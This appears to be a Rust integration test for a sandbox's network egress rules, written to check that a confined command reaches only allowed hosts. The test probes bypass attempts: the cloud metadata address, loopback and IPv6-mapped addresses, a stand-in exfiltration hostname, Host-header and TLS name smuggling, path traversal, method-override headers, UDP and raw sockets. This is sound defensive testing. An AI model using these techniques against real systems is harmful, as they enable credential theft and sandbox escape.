//! A command whose profile names where it may go reaches that, and nothing else: no other port, name or
//! address, no name that leads to the host's loopback, to a private network or to where clouds keep
//! credentials, no other host behind a name that it may go to, nothing by UDP. Nobody is asked for a name
//! that is not named.

use anyhow::{Context as _, Result, ensure};
use sandboxd_integration::hosts::{answer, client_hello};
use sandboxd_integration::world::{IP, World};
use sandboxd_integration::{Case, Inside, Need, Outside, Run};
use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, ToSocketAddrs as _, UdpSocket};
use std::thread;
use std::time::Duration;

pub(crate) const CASE: Case = Case {
    rows: &["N10", "N11", "N12", "N14", "N15", "N16", "N17", "E13"],
    needs: &[Need::Program(IP)],
    outside,
    probes: &[("reach", reach)],
    ..Case::NEW
};

/// Somewhere on the internet, as far as anybody here can tell.
const SOMEWHERE: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
/// The host's own.
const OWN: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 9);
/// The host's own, of one interface.
const SECOND: [Ipv4Addr; 2] = [Ipv4Addr::new(198, 51, 100, 1), Ipv4Addr::new(198, 51, 100, 2)];
const INNER: Ipv4Addr = Ipv4Addr::new(10, 99, 0, 1);
/// Where clouds tell a machine its credentials.
const METADATA: Ipv4Addr = Ipv4Addr::new(169, 254, 169, 254);

/// What may be reached.
const REACHED: [(Ipv4Addr, u16); 4] =
    [(SOMEWHERE, 80), (SOMEWHERE, 7000), (Ipv4Addr::LOCALHOST, 7001), (OWN, 80)];

const PROFILE: &str = "extends = [\"builtin:base\"]\n[network]\nmode = \"egress\"\negress = [\n\
    { to = \"http://named.example\", within = [\"203.0.113.7/32\"] },\n\
    { to = \"tcp://named.example:7000\", within = [\"203.0.113.7/32\"] },\n\
    { to = \"tls.example:443\", within = [\"203.0.113.7/32\"] },\n\
    { to = \"GET http://part.example/open/*\", within = [\"203.0.113.7/32\"] },\n\
    { to = \"GET http://own.example/meant/*\", within = [\"203.0.113.9/32\"] },\n\
    { to = \"GET http://own.example/near/*\", within = [\"203.0.113.0/24\"] },\n\
    { to = \"tcp://second.example:80\", within = [\"198.51.100.0/24\"] },\n\
    \"tcp://loopback.example:80\", \"tcp://inner.example:80\", \"tcp://metadata.example:80\",\n\
    \"tcp://0.0.0.0/0:80\", \"tcp://host.internal:7001\" ]\n";

fn outside(outside: &Outside) -> Result<()> {
    let hosts = [
        ("named.example", SOMEWHERE),
        ("tls.example", SOMEWHERE),
        ("part.example", SOMEWHERE),
        ("evil.example", SOMEWHERE),
        ("own.example", OWN),
        ("second.example", SECOND[1]),
        ("inner.example", INNER),
        ("metadata.example", METADATA),
        ("loopback.example", Ipv4Addr::LOCALHOST),
    ];
    let world = World::enter(outside, &hosts)?;
    World::own(OWN)?;
    World::interface(&SECOND)?;
    let open = |address: Ipv4Addr, port: u16| -> Result<TcpListener> {
        TcpListener::bind((address, port)).with_context(|| format!("{address}:{port}"))
    };
    // Those that may be reached answer what they are.
    for (address, port) in REACHED {
        let listener = open(address, port)?;
        thread::spawn(move || listener.incoming().flatten().for_each(|stream| answer(&stream)));
    }
    let hidden = [
        open(SOMEWHERE, 443)?,
        open(SOMEWHERE, 8080)?,
        open(SECOND[1], 80)?,
        open(INNER, 80)?,
        open(METADATA, 80)?,
        open(Ipv4Addr::LOCALHOST, 80)?,
        open(Ipv4Addr::LOCALHOST, 8080)?,
    ];
    let datagrams = UdpSocket::bind((SOMEWHERE, 443))?;
    datagrams.set_nonblocking(true)?;

    let run = outside.sandbox(PROFILE).probe("reach", &[]).run()?;
    run.exited(0)?;
    for reached in ["named.example:80", "named.example:7000", "host.internal:7001"] {
        run.allowed(reached)?;
    }
    for reached in ["named.example:80", "part", "own"] {
        ensure!(run.fact(reached)?.ends_with("reached"), "{}", run.fact(reached)?);
    }
    nothing_was_let_through(&run)?;
    hidden.iter().try_for_each(nobody_came)?;
    let came = datagrams.recv(&mut [0; 9]).err().map(|error| error.kind());
    ensure!(came == Some(ErrorKind::WouldBlock), "a datagram came");
    for name in world.asked() {
        let known = hosts.iter().any(|(host, _)| *host == name) && name != "evil.example";
        ensure!(known, "somebody was asked for {name}");
    }
    told(&run.stderr)?;
    written(outside)
}

/// Where a name led that leads inwards is written down.
fn written(outside: &Outside) -> Result<()> {
    let led = outside.records()?.iter().any(|record| {
        let result = |path: &str| record.pointer(path).and_then(|value| value.as_str());
        result("/result/name") == Some("inner.example")
            && result("/result/address") == Some("10.99.0.1")
    });
    ensure!(led, "no record says where inner.example led");
    Ok(())
}

fn nothing_was_let_through(run: &Run) -> Result<()> {
    let let_through: Vec<&str> = run
        .attempts()
        .filter(|(what, errno)| what.starts_with("no ") && *errno == 0)
        .map(|(what, _)| what)
        .collect();
    ensure!(let_through.is_empty(), "let through: {}", let_through.join(", "));
    Ok(())
}

fn nobody_came(listener: &TcpListener) -> Result<()> {
    let at = listener.local_addr()?;
    listener.set_nonblocking(true)?;
    let came = listener.accept().err().map(|error| error.kind());
    ensure!(came == Some(ErrorKind::WouldBlock), "somebody came to {at}");
    Ok(())
}

/// Whoever runs it is told what was refused.
fn told(said: &str) -> Result<()> {
    ensure!(said.contains("egress denied: "), "nothing is said of what was refused: {said}");
    Ok(())
}

/// What comes back on a connection to there.
fn ask(to: &str, words: &str) -> io::Result<String> {
    let address = to.to_socket_addrs()?.next().ok_or(ErrorKind::AddrNotAvailable)?;
    say(address, words)
}

fn say(to: SocketAddr, words: &str) -> io::Result<String> {
    let mut stream = TcpStream::connect(to)?;
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    stream.write_all(words.as_bytes())?;
    let mut bytes = [0; 512];
    let count = stream.read(&mut bytes)?;
    if count == 0 {
        return Err(ErrorKind::UnexpectedEof.into());
    }
    let said = String::from_utf8_lossy(bytes.get(..count).unwrap_or_default()).into_owned();
    // A refusal in words is one.
    if said.starts_with("HTTP/1.1 4") || said.starts_with("HTTP/1.1 5") {
        return Err(ErrorKind::PermissionDenied.into());
    }
    Ok(said)
}

fn get(path: &str, host: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

fn reach(inside: &Inside) -> Result<()> {
    let plain = get("/", "named.example");
    for to in ["named.example:80", "named.example:7000", "host.internal:7001"] {
        let said = inside.attempt(to, ask(to, &plain));
        inside.fact(to, said.as_deref().unwrap_or("nothing"));
    }
    inside.fact("part", &ask("part.example:80", &get("/open/x", "part.example"))?);
    let try_it = |what: &str, outcome: io::Result<String>| {
        inside.attempt(&format!("no {what}"), outcome);
    };
    try_it("other host in a request", ask("named.example:80", &get("/", "evil.example")));
    try_it(
        "other host in a second request",
        twice("named.example:80", &plain, &get("/", "evil.example")),
    );
    parts(inside);
    try_it("TLS for another name", hello("tls.example:443", "evil.example"));
    try_it("plain text where TLS is meant", ask("tls.example:443", &get("/", "tls.example")));
    for to in [
        "named.example:8080",
        "evil.example:80",
        "SECRET.exfiltrated.evil.example:80",
        "loopback.example:80",
        "second.example:80",
        "inner.example:80",
        "metadata.example:80",
        "169.254.169.254:80",
        "10.99.0.1:80",
        "203.0.113.7:7000",
        "203.0.113.7:8080",
        "127.0.0.1:80",
        "127.0.0.1:7001",
        "0.0.0.0:80",
        "host.internal:80",
        "host.internal:8080",
        "198.18.200.200:80",
        "localhost:7001",
        "[::1]:7001",
        "[::ffff:127.0.0.1]:7001",
        "[::ffff:10.99.0.1]:80",
        "[2001:db8::1]:80",
        "[64:ff9b::a9fe:a9fe]:80",
    ] {
        try_it(to, ask(to, &plain));
    }
    own(inside)?;
    datagrams(inside)?;
    raw(inside);
    Ok(())
}

/// A method and a path, and everything that some take for others.
fn parts(inside: &Inside) {
    let ask = |what: &str, line: &str, field: &str| {
        let words = format!("{line} HTTP/1.1\r\nHost: part.example\r\n{field}\r\n\r\n");
        inside.attempt(&format!("no {what}"), ask("part.example:80", &words));
    };
    ask("other path", "GET /shut", "Accept: */*");
    ask("path that climbs", "GET /open/../shut", "Accept: */*");
    ask("other method", "POST /open/x", "Content-Length: 0");
    ask("other method by a field", "GET /open/x", "X-HTTP-Method-Override: DELETE");
}

/// An address of the host's own, which a network that has the host in it does not mean.
fn own(inside: &Inside) -> Result<()> {
    let get = |path| get(path, "own.example");
    inside.fact("own", &ask("own.example:80", &get("/meant/x"))?);
    inside.attempt("no address of the host's own", ask("own.example:80", &get("/near/x")));
    let second = twice("own.example:80", &get("/meant/x"), &get("/near/x"));
    inside.attempt("no address of the host's own in a second request", second);
    Ok(())
}

/// What comes back to a client of TLS that names this host.
fn hello(to: &str, name: &str) -> io::Result<String> {
    let mut stream = TcpStream::connect(to)?;
    stream.write_all(&client_hello(name))?;
    let mut bytes = [0; 512];
    let count = stream.read(&mut bytes)?;
    match bytes.get(..count) {
        Some([0x15, ..] | []) | None => Err(ErrorKind::PermissionDenied.into()),
        Some(_) => Ok(String::new()),
    }
}

/// What comes back to a second request on a connection.
fn twice(to: &str, first: &str, second: &str) -> io::Result<String> {
    let mut stream = TcpStream::connect(to)?;
    stream.write_all(first.as_bytes())?;
    let mut bytes = [0; 512];
    while !bytes.windows(7).any(|window| window == b"reached") {
        if stream.read(&mut bytes)? == 0 {
            return Err(ErrorKind::UnexpectedEof.into());
        }
    }
    stream.write_all(second.as_bytes())?;
    let count = stream.read(&mut bytes)?;
    let said = String::from_utf8_lossy(bytes.get(..count).unwrap_or_default()).into_owned();
    if said.contains("reached") { Ok(said) } else { Err(ErrorKind::PermissionDenied.into()) }
}

/// QUIC, and names asked for elsewhere: whatever is sent, nobody answers but who answers for names.
fn datagrams(inside: &Inside) -> Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(Duration::from_millis(300)))?;
    let sent = socket.send_to(b"hello", "203.0.113.7:443");
    inside.fact("datagram", &format!("{sent:?}"));
    inside.attempt("no answer to a datagram", socket.recv(&mut [0; 64]));
    Ok(())
}

fn raw(inside: &Inside) {
    use nix::sys::socket::{AddressFamily, SockFlag, SockProtocol, SockType, socket};
    let flags = SockFlag::empty();
    let raw = socket(AddressFamily::Inet, SockType::Raw, flags, SockProtocol::Raw);
    inside.attempt("no raw socket", raw);
    let packet = socket(AddressFamily::Packet, SockType::Raw, flags, None);
    inside.attempt("no packet socket", packet);
    let filter =
        socket(AddressFamily::Netlink, SockType::Raw, flags, SockProtocol::NetlinkNetFilter);
    inside.attempt("no netfilter socket", filter);
}
